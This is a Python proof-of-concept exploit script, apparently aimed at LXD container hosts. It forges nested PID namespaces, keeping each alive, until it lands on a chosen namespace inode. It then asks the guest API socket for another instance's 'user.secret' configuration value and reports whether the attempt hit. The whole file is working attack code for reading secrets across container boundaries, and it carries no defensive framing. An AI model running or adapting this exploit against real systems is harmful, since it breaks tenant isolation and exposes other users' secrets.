# Run as root inside an instance: create nested pid namespaces, keeping each alive, until one gets
# pid namespace inode TARGET (the kernel hands out nsfs inodes lowest-free first); from that one,
# ask the guest socket for user.secret and print "hit <tries> <HTTP status line>", else "miss <tries>".
import ctypes, os, signal, socket, sys

target, sock_path, limit = sys.argv[1], sys.argv[2], int(sys.argv[3])
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWPID = 0x20000000

for i in range(1, limit + 1):
    r, w = os.pipe()
    helper = os.fork()
    if helper == 0:
        os.close(r)
        null = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)  # the kept-alive namespaces must not hold the caller's pipes open
        if libc.unshare(CLONE_NEWPID) != 0:
            os.write(w, b"E unshare failed")
            os._exit(1)
        child = os.fork()
        if child == 0:
            if os.readlink("/proc/self/ns/pid") == f"pid:[{target}]":
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.connect(sock_path)
                s.sendall(b"GET /1.0/config/user.secret HTTP/1.0\r\nHost: lxd\r\n\r\n")
                data = b""
                while chunk := s.recv(4096):
                    data += chunk
                os.write(w, b"H" + data.split(b"\r\n")[0] + b" " + data.split(b"\r\n\r\n", 1)[-1][:40])
                os._exit(0)
            os.write(w, b"M")
            signal.pause()  # keep this namespace (and its inode) alive
            os._exit(0)
        os.waitpid(child, 0)
        os._exit(0)
    os.close(w)
    res = os.read(r, 300)
    os.close(r)
    if res.startswith(b"H"):
        print(f"hit {i} {res[1:].decode(errors='replace')}", flush=True)
        sys.exit(0)
    if res.startswith(b"E"):
        print(res.decode(), flush=True)
        sys.exit(1)
print(f"miss {limit}", flush=True)
